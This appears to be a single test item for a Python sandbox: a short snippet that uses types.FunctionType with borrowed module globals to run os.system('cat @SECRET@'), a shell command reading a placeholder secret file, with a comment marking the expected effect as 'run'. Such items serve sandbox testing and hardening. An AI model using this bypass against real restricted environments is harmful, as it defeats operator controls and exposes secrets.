# FunctionType binds code to any globals.
# effect: run
import textwrap
import types
code = compile("__import__('os').system('cat @SECRET@')", "x", "eval")
types.FunctionType(code, vars(textwrap))()
